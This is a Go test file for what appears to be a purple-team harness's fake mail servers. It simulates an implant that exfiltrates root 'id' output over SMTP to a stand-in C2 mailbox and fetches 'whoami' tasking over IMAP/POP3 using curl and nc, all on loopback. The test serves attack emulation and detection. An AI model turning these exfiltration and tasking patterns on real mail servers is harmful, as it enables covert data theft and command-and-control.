// Package mailtest is the client suite run against purpleharness's fake
// mail servers in both modes, in-process (fakemail.Start) and in a
// container (fakemail/container): real clients (curl, nc, Go's net/smtp,
// the go-imap v2 client) speak every protocol and TLS mode, and the
// evidence the handle returns must tell the same story.
package mailtest

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"net/smtp"
	"os/exec"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/emersion/go-imap/v2"
	"github.com/emersion/go-imap/v2/imapclient"

	"github.com/purpleharness/purpleharness/fakemail"
	"github.com/purpleharness/purpleharness/prereq"
)

// Mail is what the suite sends: results an implant exfiltrates.
const Mail = "From: implant@victim.test\r\nTo: c2@purpleharness.test\r\nSubject: results\r\n\r\nuid=0(root) gid=0(root)\r\n"

// Curl runs curl with args (stdin fed from stdin) and returns stdout,
// failing the test on a non-zero exit; it skips when curl is missing.
func Curl(t testing.TB, stdin string, args ...string) string {
	t.Helper()
	path := prereq.LookPath(t, "curl")
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, path, append([]string{"-sS", "--max-time", "15"}, args...)...)
	cmd.Stdin = strings.NewReader(stdin)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		t.Fatalf("curl %s: %v\nstderr: %s", strings.Join(args, " "), err, errb.String())
	}
	return out.String()
}

// WaitSessions polls h until it has recorded n sessions or 5s pass, and
// returns them in connection order (by ID).
func WaitSessions(h fakemail.Handle, n int) []fakemail.Session {
	deadline := time.Now().Add(5 * time.Second)
	for {
		ev := h.Evidence()
		if len(ev) >= n || time.Now().After(deadline) {
			sort.Slice(ev, func(i, j int) bool { return ev[i].ID < ev[j].ID })
			return ev
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// step is one client exchange and what its session must show.
type step struct {
	name string
	run  func(t *testing.T, h fakemail.Handle)
	svc  fakemail.Service
	tls  fakemail.TLSMode // "" for none
	user string           // authenticated user, "" for none
	verb string           // a command the session must contain
	dir  fakemail.Direction
}

const login = fakemail.DefaultLogin + ":" + fakemail.DefaultPassword

// Run runs the suite against h, which must serve the default
// configuration (fakemail.DefaultConfig) and nothing else yet. Each step
// checks its client's output and then the session h recorded for it.
func Run(t *testing.T, h fakemail.Handle) {
	steps := []step{
		{"curl smtp", func(t *testing.T, h fakemail.Handle) {
			Curl(t, Mail, "smtp://"+h.Addr(fakemail.SMTP), "--mail-from", "implant@victim.test",
				"--mail-rcpt", fakemail.DefaultAddress, "-T", "-")
		}, fakemail.SMTP, "", "", "DATA", fakemail.ToServer},
		{"curl pop3 list", func(t *testing.T, h fakemail.Handle) {
			got := Curl(t, "", "pop3://"+h.Addr(fakemail.POP3)+"/", "-u", login)
			if strings.Count(got, "\n") != 2 {
				t.Errorf("LIST = %q, want the seed and the mail just sent", got)
			}
		}, fakemail.POP3, "", fakemail.DefaultLogin, "LIST", ""},
		{"curl pop3 retr", func(t *testing.T, h fakemail.Handle) {
			if got := Curl(t, "", "pop3://"+h.Addr(fakemail.POP3)+"/2", "-u", login); got != Mail {
				t.Errorf("RETR 2 = %q, want the mail sent over SMTP %q", got, Mail)
			}
		}, fakemail.POP3, "", fakemail.DefaultLogin, "RETR", fakemail.FromServer},
		{"curl imap", func(t *testing.T, h fakemail.Handle) {
			if got := Curl(t, "", "imap://"+h.Addr(fakemail.IMAP)+"/INBOX;UID=2", "-u", login); got != Mail {
				t.Errorf("imap UID=2 = %q, want the mail sent over SMTP", got)
			}
		}, fakemail.IMAP, "", fakemail.DefaultLogin, "UID FETCH", fakemail.FromServer},
		{"curl imaps", func(t *testing.T, h fakemail.Handle) {
			if got := Curl(t, "", "imaps://"+h.Addr(fakemail.IMAPS)+"/INBOX;UID=1", "-k", "-u", login); !strings.Contains(got, "command: whoami") {
				t.Errorf("imaps UID=1 = %q, want the seeded tasking", got)
			}
		}, fakemail.IMAPS, fakemail.TLSImplicit, fakemail.DefaultLogin, "UID FETCH", fakemail.FromServer},
		{"curl imap starttls", func(t *testing.T, h fakemail.Handle) {
			Curl(t, "", "imap://"+h.Addr(fakemail.IMAP)+"/INBOX;UID=1", "--ssl-reqd", "-k", "-u", login)
		}, fakemail.IMAP, fakemail.TLSStartTLS, fakemail.DefaultLogin, "UID FETCH", fakemail.FromServer},
		{"curl pop3 stls", func(t *testing.T, h fakemail.Handle) {
			Curl(t, "", "pop3://"+h.Addr(fakemail.POP3)+"/1", "--ssl-reqd", "-k", "-u", login)
		}, fakemail.POP3, fakemail.TLSStartTLS, fakemail.DefaultLogin, "RETR", fakemail.FromServer},
		{"curl pop3s", func(t *testing.T, h fakemail.Handle) {
			Curl(t, "", "pop3s://"+h.Addr(fakemail.POP3S)+"/1", "-k", "-u", login)
		}, fakemail.POP3S, fakemail.TLSImplicit, fakemail.DefaultLogin, "RETR", fakemail.FromServer},
		{"curl submission starttls auth", func(t *testing.T, h fakemail.Handle) {
			Curl(t, Mail, "smtp://"+h.Addr(fakemail.Submission), "--ssl-reqd", "-k", "-u", login,
				"--mail-from", "implant@victim.test", "--mail-rcpt", fakemail.DefaultAddress, "-T", "-")
		}, fakemail.Submission, fakemail.TLSStartTLS, fakemail.DefaultLogin, "DATA", fakemail.ToServer},
		{"curl smtps", func(t *testing.T, h fakemail.Handle) {
			Curl(t, Mail, "smtps://"+h.Addr(fakemail.SMTPS), "-k", "--mail-from", "implant@victim.test",
				"--mail-rcpt", fakemail.DefaultAddress, "-T", "-")
		}, fakemail.SMTPS, fakemail.TLSImplicit, "", "DATA", fakemail.ToServer},
		{"nc pop3 dialogue", func(t *testing.T, h fakemail.Handle) {
			nc := prereq.LookPath(t, "nc")
			host, port, _ := net.SplitHostPort(h.Addr(fakemail.POP3))
			cmd := exec.Command(nc, "-N", "-w", "5", host, port)
			cmd.Stdin = strings.NewReader("USER c2\r\nPASS atomic-red\r\nSTAT\r\nRETR 2\r\nQUIT\r\n")
			out, err := cmd.Output()
			if err != nil || !strings.Contains(string(out), "+OK 4 ") || !strings.Contains(string(out), "uid=0(root)") {
				t.Errorf("nc dialogue: %v\n%s\nwant STAT +OK 4 and message 2", err, out)
			}
		}, fakemail.POP3, "", fakemail.DefaultLogin, "RETR", fakemail.FromServer},
		{"go net/smtp", func(t *testing.T, h fakemail.Handle) {
			if err := sendNetSMTP(h.Addr(fakemail.Submission)); err != nil {
				t.Error(err)
			}
		}, fakemail.Submission, fakemail.TLSStartTLS, fakemail.DefaultLogin, "DATA", fakemail.ToServer},
		{"go-imap client", func(t *testing.T, h fakemail.Handle) {
			if err := goIMAP(h.Addr(fakemail.IMAP)); err != nil {
				t.Error(err)
			}
		}, fakemail.IMAP, fakemail.TLSStartTLS, fakemail.DefaultLogin, "UID SEARCH", fakemail.ToServer},
		{"pop3 sees the imap changes", func(t *testing.T, h fakemail.Handle) {
			// IMAP expunged the seed and appended one: still 5, and POP3
			// agrees because there is one store.
			stat, err := CheckPOP3Sees(h.Addr(fakemail.POP3))
			if err != nil || !strings.HasPrefix(stat, "+OK 5 ") {
				t.Errorf("STAT = %q, %v; want +OK 5", stat, err)
			}
		}, fakemail.POP3, "", fakemail.DefaultLogin, "STAT", ""},
	}
	for _, st := range steps {
		ok := t.Run(st.name, func(t *testing.T) {
			before := len(h.Evidence()) // a skipped step records nothing
			st.run(t, h)
			ev := WaitSessions(h, before+1)
			if len(ev) != before+1 {
				t.Fatalf("%d sessions recorded, want %d", len(ev), before+1)
			}
			CheckSession(t, ev[before], st.svc, st.tls, st.user, st.verb, st.dir)
		})
		if !ok {
			return // later steps count sessions; stop at the first failure
		}
	}
}

// CheckSession checks one session's evidence.
func CheckSession(t *testing.T, e fakemail.Session, svc fakemail.Service, mode fakemail.TLSMode, user, verb string, dir fakemail.Direction) {
	t.Helper()
	if e.Service != svc || e.Protocol != svc.Protocol() {
		t.Errorf("session %s/%s, want %s", e.Service, e.Protocol, svc)
	}
	if e.Remote.IP != "127.0.0.1" || e.Remote.Port == 0 || e.Local.Port == 0 {
		t.Errorf("endpoints %v -> %v, want a loopback client", e.Remote, e.Local)
	}
	switch {
	case mode == "" && e.TLS != nil:
		t.Errorf("TLS %+v on a plaintext session", e.TLS)
	case mode != "" && (e.TLS == nil || e.TLS.Mode != mode || !strings.HasPrefix(e.TLS.Version, "TLS 1.")):
		t.Errorf("TLS %+v, want mode %s", e.TLS, mode)
	}
	if e.User != user {
		t.Errorf("user %q, want %q", e.User, user)
	}
	if e.Ended != fakemail.EndQuit {
		t.Errorf("ended %q (%s), want %q", e.Ended, e.Error, fakemail.EndQuit)
	}
	found := false
	for _, c := range e.Commands {
		found = found || c.Verb == verb
		if strings.Contains(c.Line, fakemail.DefaultPassword) || strings.Contains(c.Line, "YXRvbWljLXJlZA") {
			t.Errorf("secret in evidence: %q", c.Line)
		}
		if c.Reply == "" && c.Verb != "DONE" {
			t.Errorf("command %q has no reply recorded", c.Line)
		}
	}
	if !found {
		t.Errorf("no %s among commands %+v", verb, e.Commands)
	}
	if dir != "" {
		ok := false
		for _, m := range e.Messages {
			ok = ok || (m.Direction == dir && m.Complete && len(m.SHA256) == 64 && m.Size > 0)
		}
		if !ok {
			t.Errorf("messages %+v, want a complete one %s", e.Messages, dir)
		}
	}
}

func sendNetSMTP(addr string) error {
	c, err := smtp.Dial(addr)
	if err != nil {
		return err
	}
	defer c.Close()
	if err := c.StartTLS(&tls.Config{InsecureSkipVerify: true}); err != nil {
		return fmt.Errorf("StartTLS: %w", err)
	}
	if err := c.Auth(smtp.PlainAuth("", fakemail.DefaultLogin, fakemail.DefaultPassword, "127.0.0.1")); err != nil {
		return fmt.Errorf("Auth: %w", err)
	}
	if err := c.Mail("implant@victim.test"); err != nil {
		return err
	}
	if err := c.Rcpt(fakemail.DefaultAddress); err != nil {
		return err
	}
	w, err := c.Data()
	if err != nil {
		return err
	}
	fmt.Fprint(w, Mail)
	if err := w.Close(); err != nil {
		return err
	}
	return c.Quit()
}

// goIMAP logs in over STARTTLS, searches, fetches, flags, expunges and
// appends, checking the store's answers.
func goIMAP(addr string) error {
	c, err := imapclient.DialStartTLS(addr, &imapclient.Options{TLSConfig: &tls.Config{InsecureSkipVerify: true}})
	if err != nil {
		return fmt.Errorf("DialStartTLS: %w", err)
	}
	defer c.Close()
	if err := c.Login(fakemail.DefaultLogin, fakemail.DefaultPassword).Wait(); err != nil {
		return fmt.Errorf("Login: %w", err)
	}
	sel, err := c.Select(fakemail.Inbox, nil).Wait()
	if err != nil {
		return fmt.Errorf("Select: %w", err)
	}
	if sel.NumMessages != 5 {
		return fmt.Errorf("INBOX has %d messages, want 5 (seed + 4 sent)", sel.NumMessages)
	}
	found, err := c.UIDSearch(&imap.SearchCriteria{Header: []imap.SearchCriteriaHeaderField{{Key: "Subject", Value: "results"}}}, nil).Wait()
	if err != nil || len(found.AllUIDs()) != 4 {
		return fmt.Errorf("UIDSearch Subject results = %v, %v; want 4 UIDs", found, err)
	}
	msgs, err := c.Fetch(imap.SeqSetNum(1), &imap.FetchOptions{Envelope: true, Flags: true,
		BodySection: []*imap.FetchItemBodySection{{}}}).Collect()
	if err != nil || len(msgs) != 1 || msgs[0].Envelope.Subject != "tasking" {
		return fmt.Errorf("Fetch 1 = %v, %v; want the tasking", msgs, err)
	}
	if err := c.Store(imap.SeqSetNum(1), &imap.StoreFlags{Op: imap.StoreFlagsAdd, Silent: true,
		Flags: []imap.Flag{imap.FlagDeleted}}, nil).Close(); err != nil {
		return fmt.Errorf("Store: %w", err)
	}
	if _, err := c.Expunge().Collect(); err != nil {
		return fmt.Errorf("Expunge: %w", err)
	}
	note := "Subject: ack\r\n\r\ntask 1 done\r\n"
	ac := c.Append(fakemail.Inbox, int64(len(note)), nil)
	ac.Write([]byte(note))
	ac.Close()
	if _, err := ac.Wait(); err != nil {
		return fmt.Errorf("Append: %w", err)
	}
	return c.Logout().Wait()
}

// CheckPOP3Sees reads the maildrop over POP3 with a raw dialogue and
// returns the STAT reply, for checking what IMAP changed.
func CheckPOP3Sees(addr string) (string, error) {
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return "", err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprint(c, "USER c2\r\nPASS atomic-red\r\nSTAT\r\nQUIT\r\n")
	r := bufio.NewReader(c)
	var stat string
	for i := 0; i < 4; i++ {
		line, err := r.ReadString('\n')
		if err != nil {
			return stat, err
		}
		if i == 3 {
			stat = strings.TrimSpace(line)
		}
	}
	return stat, nil
}
